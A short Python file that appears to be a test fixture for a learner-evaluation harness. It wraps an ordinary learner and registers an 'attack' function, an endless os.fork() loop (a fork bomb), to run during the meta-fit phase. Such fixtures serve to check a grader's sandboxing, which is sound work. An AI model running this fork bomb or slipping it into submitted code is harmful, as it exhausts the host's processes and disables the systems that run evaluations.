import os

from honest import HonestLearner as MyLearner  # noqa: F401
from honest import during_meta_fit


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


MyMetaLearner = during_meta_fit(attack)
